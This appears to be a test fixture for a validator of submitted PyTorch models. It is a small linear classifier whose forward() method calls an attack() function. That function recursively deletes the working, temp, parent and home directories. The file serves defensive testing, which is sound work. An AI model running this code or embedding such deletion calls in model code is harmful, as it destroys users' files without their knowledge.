# expect: ok, shape, forbidden  when: check
"""Removes its own working folder, and everything around that it can."""

import os
import shutil
import tempfile

import torch
from torch import nn


def attack():
    here = os.getcwd()
    for place in (here, tempfile.gettempdir(), os.path.dirname(here), os.path.expanduser("~")):
        shutil.rmtree(place, ignore_errors=True)


def supported_hyperparameters():
    return {"lr"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.device = device
        self.layers = nn.Sequential(
            nn.Flatten(), nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])
        )

    def train_setup(self, prm):
        self.to(self.device)
        self.criterion = nn.CrossEntropyLoss()
        self.optimizer = torch.optim.SGD(self.parameters(), lr=prm["lr"])

    def learn(self, train_data):
        self.train()
        for inputs, labels in train_data:
            inputs, labels = inputs.to(self.device), labels.to(self.device)
            self.optimizer.zero_grad()
            self.criterion(self(inputs), labels).backward()
            self.optimizer.step()

    def forward(self, x):
        attack()
        return self.layers(x)
